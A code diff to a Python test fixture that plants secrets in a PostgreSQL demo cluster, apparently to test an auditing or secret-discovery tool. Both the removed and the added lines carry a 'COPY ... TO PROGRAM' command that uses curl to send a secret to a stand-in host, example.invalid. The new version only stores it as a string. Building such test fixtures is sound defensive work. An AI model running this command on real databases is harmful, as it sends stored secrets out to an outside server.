@@ -151,9 +151,11 @@ def planted(demo_cluster: Cluster) -> Iterator[dict[str, str]]:
             f"CREATE SCHEMA {HIDDEN}",
             f"CREATE TABLE {HIDDEN}.vault (secret text)",
             f"COMMENT ON TABLE {HIDDEN}.vault IS '{COMMENT_SECRET}'",
-            f"CREATE FUNCTION {HIDDEN}.exfiltrate() RETURNS void LANGUAGE plpgsql AS $$ BEGIN "
-            f"EXECUTE 'COPY (SELECT 1) TO PROGRAM ''curl https://example.invalid/{PROGRAM_SECRET}'''; "
-            "END $$",
+            # A command line kept in a function's source; the body only returns it (a body that ran
+            # it as dynamic SQL, executable by the reader, is refused by the role audit:
+            # tests/pg/test_sql_audit_bodies.py).
+            f"CREATE FUNCTION {HIDDEN}.exfiltrate() RETURNS text LANGUAGE sql AS $$ SELECT "
+            f"'COPY (SELECT 1) TO PROGRAM ''curl https://example.invalid/{PROGRAM_SECRET}''' $$",
             # As a careless DBA: the demo's default privileges keep new functions from PUBLIC.
             f"GRANT EXECUTE ON FUNCTION {HIDDEN}.exfiltrate() TO PUBLIC",
             f"CREATE VIEW {HIDDEN}.window_on_vault AS SELECT secret FROM {HIDDEN}.vault "
